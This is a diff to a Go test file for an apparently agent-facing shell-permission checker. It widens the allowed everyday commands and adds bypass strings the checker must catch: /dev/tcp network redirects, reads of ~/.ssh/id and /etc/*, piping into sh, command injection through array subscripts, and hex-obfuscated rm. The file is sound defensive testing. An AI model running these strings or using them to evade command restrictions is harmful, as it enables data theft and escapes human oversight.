@@ -22,7 +22,7 @@ func widenedRules(t testing.TB) Rules {
 		"go test", "go build", "go vet", "go list", "go doc", "go mod", "go fmt", "gofmt", "cargo test", "cargo build", "cargo check", "cargo clippy",
 		"npm test", "npm run build", "npm run lint", "npm ls", "pytest", "make", "make test", "./gradlew test", "mvn test", "rake test", "ctest", "cmake",
 		"docker ps", "docker images", "docker logs", "kubectl get", "kubectl describe", "gh pr list", "gh pr view", "terraform plan",
-		"eslint", "prettier", "ruff", "mypy", "tsc", "black", "golangci-lint run", "yq", "column", "nl", "tac", "md5sum",
+		"eslint", "prettier", "ruff", "mypy", "tsc", "black", "golangci-lint run", "yq", "column", "nl", "tac", "md5sum", "fd", "uniq",
 	} {
 		r, err := ParseRule("shell:" + text + " *")
 		if err == nil {
@@ -79,7 +79,7 @@ var bypasses = map[string][]string{
 		"git submodule foreach ls", "git bisect run ls", "git rebase -x ls HEAD~2", "go run ./x", "docker run x ls", "npm exec ls", "uv run ls", "git-log", "ld-linux-x86-64.so.2 /bin/ls",
 	},
 	"joined": {
-		"ls\nrm x", "ls & rm x", "ls && rm x", "ls || rm x", "ls ; rm x", "ls;rm x", "ls | sh", "ls |& sh", "ls&&rm x", "rm x && ls", "ls & ls", "ls &", "ls | wc", "! ls", "! rm", "{ ls; }", "{ rm; }", "(ls)", "( rm x )",
+		"ls\nrm x", "ls & rm x", "ls && rm x", "ls || rm x", "ls ; rm x", "ls;rm x", "ls | sh", "ls |& sh", "ls&&rm x", "rm x && ls", "ls & ls", "ls &", "ls | rm x", "rm x | wc", "ls | wc | sh", "ls | wc && rm x", "ls | { wc; }", "ls | x=1 wc", "ls | xargs ls", "cat x | make", "cat x | git commit -m x", "cat x | git add -A", "ls | ./wc", "ls | wc & ls", "! ls", "! rm", "{ ls; }", "{ rm; }", "(ls)", "( rm x )",
 		"if ls; then rm x; fi", "while ls; do rm x; done", "for f in a; do ls; done", "case x in x) ls;; esac", "ls() { rm x; }; ls", "function ls { rm x; }", "ls; ls() { rm x; }",
 		"cd /tmp && make", "cd /tmp; make test", "ls\n\n\nrm x", "ls # x\nrm x", "ls \\\n; rm x", "ls;\trm x", "select x in a; do ls; done", "until ls; do ls; done", "coproc ls", "coproc X { ls; }", "[ -f x ] && ls", "test -f x; ls",
 		"alias ls=rm; ls", "set -x; ls", "hash -p /tmp/x ls; ls", "enable -f x ls; ls", "shopt -s expand_aliases\nls", "printf -v PATH . ; ls", "read PATH; ls", "unset PATH; ls",
@@ -87,10 +87,10 @@ var bypasses = map[string][]string{
 	"substituted": {
 		"echo $(rm x)", "echo `rm x`", "cat <(rm x)", "cat >(rm x)", "echo ${x:-$(rm)}", `echo "$(rm x)"`, "echo \"`rm x`\"", "cat <<E\n$(rm)\nE", "cat <<'E'\nx\nE", "cat <<< x", "echo ${ rm x; }", "echo ${| rm x; }",
 		"echo $x", `echo "$x"`, "echo ${x}", "echo ${!x}", "echo $((1+1))", "echo $[ 1 ]", "echo $[ x='a[$(touch F)]', x ]", "[[ -v a[$(id)] ]]", "((a[$(id)]))", "let 'a[$(id)]=1'", "test -v 'a[$(id)]'", "[ -v 'a[$(id)]' ]", "printf -v 'a[$(id)]' x",
-		"unset 'a[$(id)]'", "echo ${a[$(id)]}", "declare -a 'x=($(id))'", "echo $'\\x2d'", `echo $"x"`, "ls *", "ls -- *", "cat *.go", "ls a?b", "ls [ab]", "echo {a,b}", "echo {1..3}", "cat ~/.ssh/id", "cat ~root/x", "make x=~/y", "ls !(a)", "ls @(a|b)", "ls +(x)", "cat ./a{,b}",
+		"unset 'a[$(id)]'", "echo ${a[$(id)]}", "declare -a 'x=($(id))'", "echo $'\\x2d'", `echo $"x"`, "ls *", "ls -- *", "cat *.go", "cat */x", "cat ?/x", "cat src/.*", "cat ./.*/x", "cat src/.?/x", "cat src/../*", "cat ../*", "cat /etc/*", "cat src//*", "cat ~/x/*", "cat -x/*", "make X=a/*", "cat src/[ab]", "cat src/{a,b}*", "cat src/$x*", "cat \"src/$x\"*", "src/*", "yq . src/*", "go test src/*", "ls a?b", "ls [ab]", "echo {a,b}", "echo {1..3}", "cat ~/.ssh/id", "cat ~root/x", "make x=~/y", "ls !(a)", "ls @(a|b)", "ls +(x)", "cat ./a{,b}",
 	},
 	"redirected": {
-		"ls > x", "ls >> x", "ls 2> x", "ls >| x", "ls &> x", "cat < x", "ls 2>&1", "ls >&2", "ls > /dev/null", "> x", "ls > /dev/tcp/h/80", "exec 3<>/dev/tcp/h/80", "exec > x", "ls {fd}> x", "ls 1<> x", "ls >(tee x)",
+		"ls > x", "ls >> x", "ls 2> x", "ls >| x", "ls &> x", "cat < x", "ls >&x", "ls >&2 > x", "ls 2>&1 | wc > x", "ls 3>&1", "ls 2>&3", "ls 2>&-", "ls >&$x", "ls > /dev/null/../x", "ls > \"/dev/null\"$x", "ls > /dev/nul[l]", "ls 3> /dev/null", "ls {x}> /dev/null", "ls <> /dev/null", "cat < /dev/stdin", "> /dev/null", "> x", "ls > /dev/tcp/h/80", "exec 3<>/dev/tcp/h/80", "exec > x", "ls {fd}> x", "ls 1<> x", "ls >(tee x)",
 	},
 	"hidden": {
 		"trap 'rm x' EXIT", "trap 'rm x' DEBUG; ls", "eval ls", "eval 'rm x'", ". ./x", "source x", `\ls`, `l"s"`, "l''s", "'ls'", `"ls"`, "l\\s", "$'\\x72\\x6d' x", `r"m" x`, `\rm x`, "{rm,-rf,x}", "{ls,-l}", "a=rm;$a x", "a=ls; $a", "/bin/rm x", "./ls", "/tmp/ls", "../ls", "./make", "~/ls",
@@ -134,7 +134,9 @@ second line"`, "git stash list", "git stash show -p stash@{0}", "git --no-pager 
 	"cargo test", "cargo test --workspace", "cargo build --release", "cargo clippy --all-targets", "npm test", "npm run build", "npm run lint", "npm ls --depth=0", "pytest", "pytest -q tests/test_a.py", "pytest -x -k 'a and not b'", "pytest tests/test_a.py::test_b -v",
 	"make", "make -j8", "make test", "./gradlew test", "docker ps -a", "docker logs -f web", "docker logs --tail=50 web", "kubectl get pods -n web", "kubectl get pods -o wide", "kubectl describe pod x", "gh pr list --limit 5", "gh pr view 12", "eslint src", "ruff check", "tsc --version",
 	"ls && git status", "git add -A && git commit -m x", "go build ./... && go test ./...", "git status; git diff", "git status\ngit log -3", "cat /home/me/src/main.go", "ls -l /home/me/src", `git commit -m "Größe — “gut”"`, "cat Größe.txt",
-	"ls src/*.go", "tsc --noEmit", "go test ./... 2>&1 | tail -20", // these ask, and are here for honesty
+	"ls src/*.go", "ls ./*.md", "wc -l src/*/*_test.go | sort -n | tail", "git add src/*.go", "tsc --noEmit", "go test ./... 2>&1 | tail -20", "ls | wc", "ls 2>&1", "ls >&2", "ls > /dev/null", "cat x 2>/dev/null || echo missing", "go test ./... &> /dev/null", "cat x < /dev/null",
+	"git log --oneline | head", "git diff --name-only | grep go |& wc -l", "ls -la && cat x | grep y", "docker ps --format '{{.Names}}' | sort -u", "sort x | uniq -c | sort -rn", "cut -d: -f1,3 x", "cut -d, -f2 x", "tail -n +10 x", "tail -f log.txt", "date +%s", "date '+%Y-%m-%d %H:%M'", "fd -e go | head", "du -d1 -h", "column -t x",
+	"git --no-pager diff --stat", "git --no-pager status", "cargo test -- --nocapture", "cargo clippy -- -D warnings", "ctest --test-dir build", "git log --grep=x --all-match",
 }
 
 func TestWidenedRulesAllowEverydayCommands(t *testing.T) {
